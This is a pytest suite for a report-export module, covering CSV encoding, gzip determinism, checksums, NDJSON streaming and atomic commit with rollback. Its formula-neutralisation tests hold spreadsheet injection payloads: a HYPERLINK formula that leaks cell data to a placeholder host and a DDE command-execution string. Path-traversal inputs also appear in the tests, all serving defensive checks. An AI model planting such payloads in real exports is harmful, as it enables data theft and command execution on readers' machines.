"""Exports and their commit: exact bytes, checksums of what is on disk, all-or-nothing moves."""

from __future__ import annotations

import asyncio
import csv
import gzip
import hashlib
import io
import math
import os
import re
import stat
from collections.abc import Callable, Iterator
from pathlib import Path
from types import MappingProxyType
from typing import Any

import aiofiles.os
import orjson
import pytest

from app.errors import StorageError
from app.pipeline import export
from app.pipeline.export import (
    CHUNK_BYTES,
    MANIFEST_NAME,
    ExportedFile,
    NdjsonWriter,
    Staging,
    csv_cell,
    file_name,
    replace_file,
    write_csv,
    write_json,
)

COLUMNS = ["queue_name", "agent_name", "answered", "answer_rate", "wrapup_codes", "urgent"]
ROWS: list[dict[str, Any]] = [
    {
        "queue_name": "Support",
        "agent_name": 'O\'Connor, "Jr"',
        "answered": 12,
        "answer_rate": 0.8123,
        "wrapup_codes": ["Resolved", "Follow-up"],
        "urgent": True,
    },
    {
        "queue_name": "Zoë's line\nsecond line",
        "agent_name": None,
        "answered": 0,
        "answer_rate": None,
        "wrapup_codes": [],
        "urgent": False,
    },
    {
        "queue_name": "Ventes",
        "agent_name": "Zoë",
        "answered": 3,
        "answer_rate": 1e-05,
        "wrapup_codes": ["Sale"],
        "urgent": False,
    },
]
# What a reader of the file must get back, cell by cell.
EXPECTED_CELLS = [
    COLUMNS,
    ["Support", 'O\'Connor, "Jr"', "12", "0.8123", "Resolved; Follow-up", "true"],
    ["Zoë's line\nsecond line", "", "0", "", "", "false"],
    ["Ventes", "Zoë", "3", "0.00001", "Sale", "false"],
]


def contents(path: Path) -> bytes:
    return path.read_bytes()


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def listing(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir())


def facts(count: int) -> Iterator[dict[str, Any]]:
    for n in range(count):
        yield {"conversation_id": f"c-{n:06d}", "queue": "Zoë", "handle_ms": n * 7, "ended": True}


# --- CSV -------------------------------------------------------------------------------------


async def test_csv_is_rfc4180_utf8_crlf_with_exact_bytes(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    record = await write_csv(path, COLUMNS, ROWS, fmt="csv")

    expected = (
        "queue_name,agent_name,answered,answer_rate,wrapup_codes,urgent\r\n"
        'Support,"O\'Connor, ""Jr""",12,0.8123,Resolved; Follow-up,true\r\n'
        '"Zoë\'s line\nsecond line",,0,,,false\r\n'  # a quoted line break stays as given
        "Ventes,Zoë,3,0.00001,Sale,false\r\n"
    )
    raw = contents(path)
    assert raw == expected.encode("utf-8")
    assert not raw.startswith(b"\xef\xbb\xbf")  # no BOM
    assert b"None" not in raw
    assert record.rows == len(ROWS)


async def test_csv_reads_back_cell_for_cell(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    await write_csv(path, COLUMNS, ROWS, fmt="csv")

    text = contents(path).decode("utf-8")
    assert list(csv.reader(io.StringIO(text, newline=""))) == EXPECTED_CELLS


async def test_csv_columns_follow_the_given_order_not_the_rows(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    columns = ["urgent", "answered", "queue_name"]
    await write_csv(path, columns, ROWS[:1], fmt="csv")

    assert contents(path) == b"urgent,answered,queue_name\r\ntrue,12,Support\r\n"


async def test_csv_with_no_rows_is_just_the_header(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    record = await write_csv(path, COLUMNS, [], fmt="csv")

    assert contents(path) == (",".join(COLUMNS) + "\r\n").encode()
    assert record.rows == 0


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (-42, "-42"),
        (0.8123, "0.8123"),
        (12.5, "12.5"),
        (3.0, "3"),
        (0.1 + 0.2, "0.3"),
        (1e-05, "0.00001"),
        (1e16, "10000000000000000"),
        (-0.0, "0"),
        (-1e-12, "0"),
        (math.nan, ""),
        (math.inf, ""),
        ("", ""),
        ("Zoë", "Zoë"),
        (["Resolved", "Follow-up"], "Resolved; Follow-up"),
        (("a", 1, None), "a; 1; "),
        ([], ""),
    ],
)
def test_csv_cell(value: Any, cell: str) -> None:
    assert csv_cell(value) == cell


# The audit's payloads (issue 13, item 1), and each start OWASP lists.
FORMULAS = [
    '=HYPERLINK("http://x/?"&B3,"ok")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33 1 23 45 67 89",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cell_neutralises_text_a_spreadsheet_would_run(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert csv_cell([text, "=second"]) == "'" + text + "; =second"  # one cell, one start
    assert csv_cell(text, neutralise_formulas=False) == text


@pytest.mark.parametrize("value", [-42, -0.5, 1e-05])
def test_csv_cell_leaves_numbers_alone(value: float) -> None:
    assert not csv_cell(value).startswith("'")
    assert float(csv_cell(value)) == value


@pytest.mark.parametrize("text", ["Sales = Support", "a@b.example", "O'Connor", "' quoted", ""])
def test_csv_cell_leaves_harmless_text_alone(text: str) -> None:
    assert csv_cell(text) == text


async def test_csv_with_formula_names_reads_back_as_text(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    rows = [{"queue_name": text, "answered": -1, "codes": [text]} for text in FORMULAS]
    await write_csv(path, ["queue_name", "answered", "codes"], rows, fmt="csv")

    read = list(csv.reader(io.StringIO(contents(path).decode("utf-8"), newline="")))
    assert read[0] == ["queue_name", "answered", "codes"]
    for cells, text in zip(read[1:], FORMULAS, strict=True):
        assert cells == ["'" + text, "-1", "'" + text]
        assert not cells[0].startswith(("=", "+", "-", "@", "\t", "\r"))


async def test_csv_header_is_neutralised_too(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    await write_csv(path, ["=cmd", "answered"], [{"=cmd": 1, "answered": 2}], fmt="csv")
    assert contents(path) == b"'=cmd,answered\r\n1,2\r\n"


async def test_csv_keeps_formulas_when_told_to(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    rows = [{"queue_name": FORMULAS[0]}]
    await write_csv(path, ["queue_name"], rows, fmt="csv", neutralise_formulas=False)
    read = list(csv.reader(io.StringIO(contents(path).decode("utf-8"), newline="")))
    assert read == [["queue_name"], [FORMULAS[0]]]


def test_csv_cell_refuses_what_it_cannot_write() -> None:
    with pytest.raises(TypeError, match="dict"):
        csv_cell({"a": 1})


async def test_csv_spanning_many_chunks_reads_back(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    columns = ["conversation_id", "queue", "handle_ms", "ended"]
    record = await write_csv(path, columns, facts(120_000), fmt="csv")

    assert record.bytes > 2 * CHUNK_BYTES  # several chunk boundaries were crossed
    with path.open(newline="", encoding="utf-8") as handle:
        lines = list(csv.reader(handle))
    assert len(lines) == 120_001
    assert lines[1] == ["c-000000", "Zoë", "0", "true"]
    assert lines[-1] == ["c-119999", "Zoë", str(119_999 * 7), "true"]


async def test_a_csv_that_fails_midway_leaves_no_file(tmp_path: Path) -> None:
    path = tmp_path / "broken.csv"

    def rows() -> Iterator[dict[str, Any]]:
        yield from facts(50_000)  # enough that some chunks reached the disk
        yield {"conversation_id": "bad"}  # lacks the other columns

    with pytest.raises(KeyError, match="queue"):
        await write_csv(path, ["conversation_id", "queue"], rows(), fmt="csv")
    assert not path.exists()


# --- gzip, determinism, checksums ------------------------------------------------------------


async def write_some(kind: str, path: Path, fmt: str) -> ExportedFile:
    """The same content in whichever of the three kinds, plain or gzipped."""
    if kind == "csv":
        return await write_csv(path, COLUMNS, ROWS, fmt=fmt)
    if kind == "json":
        return await write_json(path, {"report": "r", "rows": ROWS}, fmt=fmt, rows=len(ROWS))
    async with NdjsonWriter(path, fmt=fmt) as writer:
        for obj in facts(30_000):
            await writer.write(obj)
        return await writer.finish()


@pytest.mark.parametrize("kind", ["csv", "json", "ndjson"])
async def test_gzip_decompresses_to_the_plain_bytes(tmp_path: Path, kind: str) -> None:
    plain = await write_some(kind, tmp_path / f"plain.{kind}", kind)
    packed = await write_some(kind, tmp_path / f"packed.{kind}.gz", f"{kind}.gz")

    assert gzip.decompress(contents(tmp_path / packed.name)) == contents(tmp_path / plain.name)
    assert packed.rows == plain.rows
    assert packed.bytes < plain.bytes


@pytest.mark.parametrize("kind", ["csv", "json", "ndjson"])
async def test_gzip_is_deterministic_whatever_the_name_or_time(tmp_path: Path, kind: str) -> None:
    fmt = f"{kind}.gz"
    first = await write_some(kind, tmp_path / f"one.{fmt}", fmt)
    (tmp_path / "again").mkdir()
    second = await write_some(kind, tmp_path / "again" / f"another-name.{fmt}", fmt)

    assert contents(tmp_path / first.name) == contents(tmp_path / "again" / second.name)
    assert (first.sha256, first.bytes) == (second.sha256, second.bytes)
    # Two writes a moment apart could share a timestamp by luck; the header shows there is none.
    header = contents(tmp_path / first.name)[:10]
    assert header[4:8] == b"\0\0\0\0"  # MTIME
    assert header[3] & 0x08 == 0  # FLG.FNAME: no file name stored


@pytest.mark.parametrize("fmt", ["csv", "json", "ndjson", "csv.gz", "json.gz", "ndjson.gz"])
async def test_the_record_describes_the_bytes_on_disk(tmp_path: Path, fmt: str) -> None:
    kind = fmt.removesuffix(".gz")
    path = tmp_path / file_name("queue-daily", "2024-05-01", fmt)
    record = await write_some(kind, path, fmt)

    assert record == ExportedFile(
        format=fmt,
        name="queue-daily_2024-05-01." + fmt,
        rows=30_000 if kind == "ndjson" else len(ROWS),
        bytes=path.stat().st_size,
        sha256=sha256(path),
    )


async def test_writers_never_overwrite_an_existing_file(tmp_path: Path) -> None:
    path = tmp_path / "taken.csv"
    path.write_bytes(b"older")

    with pytest.raises(FileExistsError):
        await write_csv(path, COLUMNS, ROWS, fmt="csv")
    assert contents(path) == b"older"  # and the failed attempt did not clean it away


async def test_writers_check_their_format(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="unknown export format"):
        await write_csv(tmp_path / "x.json", COLUMNS, ROWS, fmt="json")
    with pytest.raises(ValueError, match="unknown export format"):
        await write_json(tmp_path / "x.csv", {}, fmt="csv", rows=0)
    with pytest.raises(ValueError, match="unknown export format"):
        NdjsonWriter(tmp_path / "x.ndjson.zip", fmt="ndjson.zip")
    assert listing(tmp_path) == []


def test_file_name() -> None:
    assert file_name("queue-daily", "2024-05-01", "csv.gz") == "queue-daily_2024-05-01.csv.gz"
    assert file_name("agents", "2024-W18", "json") == "agents_2024-W18.json"
    with pytest.raises(ValueError, match="pdf"):
        file_name("queue-daily", "2024-05-01", "pdf")


# --- JSON and NDJSON -------------------------------------------------------------------------


async def test_json_round_trips_compact_with_a_trailing_newline(tmp_path: Path) -> None:
    document = {
        "report": "queue-daily",
        "period": {"start": "2024-05-01T00:00:00+02:00", "timezone": "Europe/Berlin"},
        "group_by": ["queue"],
        "rows": ROWS,
        "extra": MappingProxyType({"read-only": True}),  # any Mapping, not only dict
    }
    path = tmp_path / "report.json"
    record = await write_json(path, document, fmt="json", rows=len(ROWS))

    raw = contents(path)
    assert raw.endswith(b"}\n")
    assert raw.count(b"\n") == 1  # compact: the only newline is the trailing one
    assert orjson.loads(raw) == {**document, "extra": {"read-only": True}}
    assert record.rows == len(ROWS)


async def test_ndjson_streams_many_objects(tmp_path: Path) -> None:
    path = tmp_path / "facts.ndjson"
    async with NdjsonWriter(path, fmt="ndjson") as writer:
        for obj in facts(50_000):
            await writer.write(obj)
        record = await writer.finish()

    assert record.rows == 50_000
    assert record.bytes > CHUNK_BYTES
    lines = contents(path).splitlines()
    assert len(lines) == 50_000
    assert [orjson.loads(line) for line in lines] == list(facts(50_000))


async def test_ndjson_gz_streams_many_objects(tmp_path: Path) -> None:
    path = tmp_path / "facts.ndjson.gz"
    async with NdjsonWriter(path, fmt="ndjson.gz") as writer:
        for obj in facts(50_000):
            await writer.write(obj)
        record = await writer.finish()

    lines = gzip.decompress(contents(path)).splitlines()
    assert record.rows == len(lines) == 50_000
    assert orjson.loads(lines[-1]) == {
        "conversation_id": "c-049999",
        "queue": "Zoë",
        "handle_ms": 49_999 * 7,
        "ended": True,
    }


@pytest.mark.parametrize("fmt", ["ndjson", "ndjson.gz"])
async def test_an_error_inside_the_ndjson_block_deletes_the_partial_file(
    tmp_path: Path, fmt: str
) -> None:
    path = tmp_path / f"facts.{fmt}"
    with pytest.raises(RuntimeError, match="upstream"):
        async with NdjsonWriter(path, fmt=fmt) as writer:
            for obj in facts(40_000):  # past the first chunk, so bytes are on disk
                await writer.write(obj)
            assert path.stat().st_size > 0
            raise RuntimeError("upstream failed")
    assert listing(tmp_path) == []


async def test_leaving_the_ndjson_block_without_finish_deletes_the_file(tmp_path: Path) -> None:
    path = tmp_path / "facts.ndjson"
    async with NdjsonWriter(path, fmt="ndjson") as writer:
        await writer.write({"a": 1})
    assert listing(tmp_path) == []


# --- staging and commit ----------------------------------------------------------------------

RUN_ID = "20240502T0300Z-1a2b"


async def stage_exports(staging: Staging, tag: str) -> list[ExportedFile]:
    """Two exports whose content depends on ``tag``, so a re-run is distinguishable."""
    rows = [{**ROWS[0], "queue_name": tag}]
    csv_file = await write_csv(staging.path("r_p.csv"), COLUMNS, rows, fmt="csv")
    json_file = await write_json(staging.path("r_p.json.gz"), {"tag": tag}, fmt="json.gz", rows=1)
    return [csv_file, json_file]


def manifest_for(files: list[ExportedFile], tag: str) -> dict[str, Any]:
    return {"report": "r", "tag": tag, "files": files}  # orjson writes the dataclasses


async def commit_run(final_dir: Path, run_id: str, tag: str) -> Path:
    async with Staging(final_dir, run_id) as staging:
        files = await stage_exports(staging, tag)
        return await staging.commit(files, manifest_for(files, tag))


async def test_commit_moves_files_into_place_and_writes_the_manifest(tmp_path: Path) -> None:
    final_dir = tmp_path / "reports" / "r" / "2024-05-01"  # parents created as needed
    manifest_path = await commit_run(final_dir, RUN_ID, "first")

    assert manifest_path == final_dir / MANIFEST_NAME
    assert listing(final_dir) == ["manifest.json", "r_p.csv", "r_p.json.gz"]
    assert listing(final_dir.parent) == ["2024-05-01"]  # no staging directory left behind
    manifest = orjson.loads(contents(manifest_path))
    assert manifest["tag"] == "first"
    for entry in manifest["files"]:
        moved = final_dir / entry["name"]
        assert (entry["bytes"], entry["sha256"]) == (moved.stat().st_size, sha256(moved))
        assert manifest_path.stat().st_mtime_ns >= moved.stat().st_mtime_ns


async def test_committed_files_and_directories_get_the_storage_modes(tmp_path: Path) -> None:
    """Issue 13, item 9: reports were world-readable (0644 under the usual umask)."""
    old = os.umask(0o022)
    try:
        final_dir = tmp_path / "reports" / "r" / "2024-05-01"
        manifest_path = await commit_run(final_dir, RUN_ID, "first")
    finally:
        os.umask(old)
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in final_dir.iterdir()}
    assert modes == dict.fromkeys(["manifest.json", "r_p.csv", "r_p.json.gz"], 0o640)
    assert stat.S_IMODE(final_dir.stat().st_mode) == 0o750
    assert stat.S_IMODE(manifest_path.stat().st_mode) == 0o640


async def test_replace_file_keeps_the_mode_and_leaves_no_temporary(tmp_path: Path) -> None:
    path = tmp_path / "manifest.json"
    path.write_bytes(b"old")
    path.chmod(0o600)
    await replace_file(path, b"new" * 100_000)
    assert path.read_bytes() == b"new" * 100_000
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert listing(tmp_path) == ["manifest.json"]


class Recorder:
    """Wraps aiofiles.os.replace (and the directory fsync) to log the order of commit's steps,
    and can make the nth replace, or the nth directory fsync, fail like a failing disk would."""

    def __init__(
        self, monkeypatch: pytest.MonkeyPatch, *, fail_replace: int = 0, fail_fsync: int = 0
    ) -> None:
        self.steps: list[str] = []
        self._counts = {"replace": 0, "fsync": 0}
        self._fail = {"replace": fail_replace, "fsync": fail_fsync}
        self._replace = aiofiles.os.replace
        self._fsync = export._fsync_directory
        self.on_replace: Callable[[], object] = lambda: None
        monkeypatch.setattr(aiofiles.os, "replace", self.replace)
        monkeypatch.setattr(export, "_fsync_directory", self.fsync)

    def _failing(self, what: str) -> bool:
        self._counts[what] += 1
        return self._counts[what] == self._fail[what]

    async def replace(self, src: Path, dst: Path) -> None:
        self.on_replace()
        if self._failing("replace"):
            raise OSError(28, "No space left on device")
        await self._replace(src, dst)
        self.steps.append(f"replace {src.name} -> {dst.name}")

    async def fsync(self, path: Path) -> None:
        if self._failing("fsync"):
            raise OSError(5, "Input/output error")
        await self._fsync(path)
        self.steps.append("fsync")


async def test_commit_moves_the_old_manifest_aside_first_and_the_new_one_in_last(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    final_dir = tmp_path / "2024-05-01"
    await commit_run(final_dir, "run-1", "first")
    recorder = Recorder(monkeypatch)

    await commit_run(final_dir, "run-2", "second")

    assert recorder.steps == [
        "replace manifest.json -> .previous.manifest.json",
        "fsync",
        "replace r_p.csv -> .previous.r_p.csv",
        "replace r_p.csv -> r_p.csv",
        "replace r_p.json.gz -> .previous.r_p.json.gz",
        "replace r_p.json.gz -> r_p.json.gz",
        "fsync",
        "replace .manifest.json.run-2.tmp -> manifest.json",
        "fsync",
    ]
    assert orjson.loads(contents(final_dir / MANIFEST_NAME))["tag"] == "second"


def snapshot(directory: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in directory.iterdir()}


# A failure at each of the six renames and three directory fsyncs of a re-run's commit.
COMMIT_FAILURES = [{"fail_replace": n} for n in range(1, 7)] + [
    {"fail_fsync": n} for n in range(1, 4)
]


@pytest.mark.parametrize("failure", COMMIT_FAILURES, ids=lambda f: "-".join(map(str, *f.items())))
async def test_a_failed_commit_puts_the_earlier_report_back_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, failure: dict[str, int]
) -> None:
    final_dir = tmp_path / "2024-05-01"
    await commit_run(final_dir, "run-1", "first")
    before = snapshot(final_dir)
    Recorder(monkeypatch, **failure)

    with pytest.raises(StorageError, match=f"^moving the report into {re.escape(str(final_dir))}"):
        await commit_run(final_dir, "run-2", "second")

    # Every move was undone: the earlier report, manifest included, byte for byte, still done.
    assert snapshot(final_dir) == before
    assert orjson.loads(before[MANIFEST_NAME])["tag"] == "first"
    assert listing(tmp_path) == ["2024-05-01"]  # no staging directory


@pytest.mark.parametrize(
    "failure", COMMIT_FAILURES[:3], ids=["replace-1", "replace-2", "replace-3"]
)
async def test_a_failed_first_commit_leaves_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, failure: dict[str, int]
) -> None:
    final_dir = tmp_path / "2024-05-01"
    Recorder(monkeypatch, **failure)
    with pytest.raises(StorageError, match="No space left on device"):
        await commit_run(final_dir, "run-1", "first")
    assert listing(final_dir) == []
    assert listing(tmp_path) == ["2024-05-01"]


async def test_a_cancelled_commit_finishes_first(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Cancelled once it has begun moving files, the commit still completes before the
    cancellation is let through: never half a report, never a manifest without its files."""
    final_dir = tmp_path / "2024-05-01"
    await commit_run(final_dir, "run-1", "first")
    recorder = Recorder(monkeypatch)
    async with Staging(final_dir, "run-2") as staging:
        files = await stage_exports(staging, "second")
        committing = asyncio.create_task(staging.commit(files, manifest_for(files, "second")))
        recorder.on_replace = committing.cancel  # at the first move, and at every one after
        with pytest.raises(asyncio.CancelledError):
            await committing
    assert len(recorder.steps) == 9  # every step of the commit ran
    manifest = orjson.loads(contents(final_dir / MANIFEST_NAME))
    assert manifest["tag"] == "second"
    for entry in manifest["files"]:
        assert sha256(final_dir / entry["name"]) == entry["sha256"]
    assert listing(tmp_path) == ["2024-05-01"]


async def test_a_failure_inside_the_block_leaves_nothing(tmp_path: Path) -> None:
    final_dir = tmp_path / "2024-05-01"
    with pytest.raises(RuntimeError, match="fetch failed"):
        async with Staging(final_dir, RUN_ID) as staging:
            await stage_exports(staging, "doomed")
            assert staging.directory.is_dir()
            raise RuntimeError("fetch failed")

    assert listing(tmp_path) == []


async def test_a_failure_inside_the_block_leaves_a_done_period_untouched(tmp_path: Path) -> None:
    final_dir = tmp_path / "2024-05-01"
    await commit_run(final_dir, "run-1", "first")
    before = {name: contents(final_dir / name) for name in listing(final_dir)}

    with pytest.raises(RuntimeError, match="fetch failed"):
        async with Staging(final_dir, "run-2") as staging:
            await stage_exports(staging, "second")
            raise RuntimeError("fetch failed")

    assert {name: contents(final_dir / name) for name in listing(final_dir)} == before
    assert listing(tmp_path) == ["2024-05-01"]


async def test_leaving_without_commit_discards_the_staging(tmp_path: Path) -> None:
    final_dir = tmp_path / "2024-05-01"
    async with Staging(final_dir, RUN_ID) as staging:
        await stage_exports(staging, "unused")

    assert listing(tmp_path) == []


async def test_commit_checks_everything_before_touching_the_final_dir(tmp_path: Path) -> None:
    final_dir = tmp_path / "2024-05-01"
    await commit_run(final_dir, "run-1", "first")
    before = {name: contents(final_dir / name) for name in listing(final_dir)}
    ghost = ExportedFile(format="csv", name="never-written.csv", rows=0, bytes=0, sha256="")

    with pytest.raises(FileNotFoundError, match=re.escape("never-written.csv")):
        async with Staging(final_dir, "run-2") as staging:
            await staging.commit([ghost], {"report": "r"})
    with pytest.raises(TypeError):
        async with Staging(final_dir, "run-3") as staging:
            files = await stage_exports(staging, "third")
            await staging.commit(files, {"not json": object()})

    assert {name: contents(final_dir / name) for name in listing(final_dir)} == before
    assert listing(tmp_path) == ["2024-05-01"]


async def test_a_rerun_replaces_the_files_and_the_manifest(tmp_path: Path) -> None:
    final_dir = tmp_path / "2024-05-01"
    await commit_run(final_dir, "run-1", "first")
    first_csv = contents(final_dir / "r_p.csv")

    await commit_run(final_dir, "run-2", "second")

    assert listing(final_dir) == ["manifest.json", "r_p.csv", "r_p.json.gz"]
    assert contents(final_dir / "r_p.csv") != first_csv
    assert b"second" in contents(final_dir / "r_p.csv")
    assert orjson.loads(gzip.decompress(contents(final_dir / "r_p.json.gz"))) == {"tag": "second"}
    manifest = orjson.loads(contents(final_dir / MANIFEST_NAME))
    assert manifest["tag"] == "second"
    assert [f["sha256"] for f in manifest["files"]] == [
        sha256(final_dir / "r_p.csv"),
        sha256(final_dir / "r_p.json.gz"),
    ]


@pytest.mark.parametrize("name", ["../x", "a/b", "..", ".", "", "a\\b", MANIFEST_NAME])
def test_staging_paths_are_plain_file_names(tmp_path: Path, name: str) -> None:
    with pytest.raises(ValueError, match=re.escape(repr(name))):
        Staging(tmp_path / "2024-05-01", RUN_ID).path(name)


def test_a_run_id_cannot_escape_the_parent(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="not a plain file name"):
        Staging(tmp_path / "2024-05-01", "x/../../elsewhere")


async def test_two_runs_never_share_a_staging_directory(tmp_path: Path) -> None:
    final_dir = tmp_path / "2024-05-01"
    async with Staging(final_dir, RUN_ID) as first:
        await stage_exports(first, "first")
        with pytest.raises(FileExistsError):
            async with Staging(final_dir, RUN_ID):
                pass
        assert listing(first.directory) == [".owner.lock", "r_p.csv", "r_p.json.gz"]  # untouched
        await first.commit([], {"report": "r"})

    assert listing(final_dir) == [MANIFEST_NAME]
    assert listing(tmp_path) == ["2024-05-01"]
